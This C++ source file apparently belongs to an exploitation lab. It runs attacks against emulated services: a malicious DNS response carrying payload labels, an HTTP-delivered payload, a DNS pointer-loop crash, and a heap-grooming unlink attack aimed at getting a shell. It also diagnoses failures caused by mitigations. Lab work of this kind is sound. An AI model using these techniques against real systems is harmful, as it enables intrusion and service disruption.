#include "src/adapt/retarget.hpp"

#include "src/adapt/camstored.hpp"
#include "src/adapt/resolvd.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::adapt {

std::string AdaptResult::ToString() const {
  std::string out = service + " (" + std::string(isa::ArchName(arch)) + ", " +
                    prot.ToString() + ") via " +
                    std::string(exploit::TechniqueName(technique)) + ": " +
                    std::string(ServiceOutcomeKindName(kind));
  if (!detail.empty()) out += " — " + detail;
  return out;
}

util::Result<AdaptResult> AttackMinimasq(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "minimasq";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Minimasq service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();
  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

  dns::Message query = dns::Message::Query(0x4444, "adapt.example");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
  CONNLAB_RETURN_IF_ERROR(service.ForwardQuery(qwire));
  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
  ServiceOutcome outcome = service.HandleReply(rwire);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackHttpCamd(
    isa::Arch arch, const loader::ProtectionConfig& prot, std::uint64_t seed,
    std::optional<exploit::Technique> technique) {
  AdaptResult result;
  result.service = "httpcamd";
  result.arch = arch;
  result.prot = prot;
  result.technique = technique.value_or(exploit::TechniqueFor(arch, prot));

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  HttpCamd service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, service.ProfileFor());
  exploit::ExploitGenerator generator(profile);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                           generator.BuildImage(result.technique));
  result.payload_bytes = image.size();

  // HTTP delivery: the body bytes are the payload verbatim — no label
  // interleaving, just a different wrapper.
  const util::Bytes request = HttpCamd::WrapInRequest(image.bytes());
  ServiceOutcome outcome = service.HandleRequest(request);
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackResolvd(isa::Arch arch,
                                        const loader::ProtectionConfig& prot,
                                        std::uint64_t seed) {
  AdaptResult result;
  result.service = "resolvd";
  result.arch = arch;
  result.prot = prot;
  result.technique = exploit::Technique::kPointerLoopDos;

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Resolvd service(*sys);
  const util::Bytes query = Resolvd::SelfPointerQuery(0x1007);
  result.payload_bytes = query.size();
  ServiceOutcome outcome = service.HandleQuery(query);
  result.kind = outcome.kind;
  result.shell = false;  // control-flow-free: the crash *is* the payoff
  result.detail = outcome.detail;
  return result;
}

util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
                                          const loader::ProtectionConfig& prot,
                                          std::uint64_t seed) {
  AdaptResult result;
  result.service = "camstored";
  result.arch = arch;
  result.prot = prot;
  result.technique = exploit::Technique::kHeapUnlinkWrite;

  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
  Camstored service(*sys);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile,
                           service.ProfileFor());
  CONNLAB_ASSIGN_OR_RETURN(exploit::HeapUnlinkPlan plan,
                           exploit::BuildHeapUnlinkPlan(profile));
  result.payload_bytes = plan.overflow_body.size();

  // The groom phase (every request but the last) must go through cleanly;
  // anything else means the heap layout drifted and the plan's addresses
  // are stale.
  const std::vector<util::Bytes> volley = Camstored::UnlinkVolley(plan);
  for (std::size_t i = 0; i + 1 < volley.size(); ++i) {
    ServiceOutcome staged = service.HandleRequest(volley[i]);
    if (staged.kind != ServiceOutcome::Kind::kOk) {
      result.kind = staged.kind;
      result.detail = "groom request failed: " + staged.detail;
      return result;
    }
  }
  // The delete frees the victim whose boundary tags now point at the fake
  // chunk — the allocator performs the unlink write, the flush hook fires.
  ServiceOutcome outcome = service.HandleRequest(volley.back());
  result.kind = outcome.kind;
  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
  result.detail = outcome.detail;
  return result;
}

exploit::FailureCause DiagnoseZooFailure(exploit::Technique technique,
                                         const loader::ProtectionConfig& prot,
                                         ServiceOutcome::Kind kind) {
  using Kind = ServiceOutcome::Kind;
  if (kind == Kind::kShell) return exploit::FailureCause::kNone;
  if (technique == exploit::Technique::kPointerLoopDos) {
    // The DoS has no shell stage: the crash is the success condition, and
    // nothing in the mitigation matrix intercepts a plain resource crash.
    return kind == Kind::kCrash ? exploit::FailureCause::kNone
                                : exploit::FailureCause::kOther;
  }
  if (kind == Kind::kAbort) return exploit::FailureCause::kHeapIntegrityTrap;
  if (kind == Kind::kCrash && prot.wx) return exploit::FailureCause::kNxHeap;
  return exploit::FailureCause::kOther;
}

}  // namespace connlab::adapt
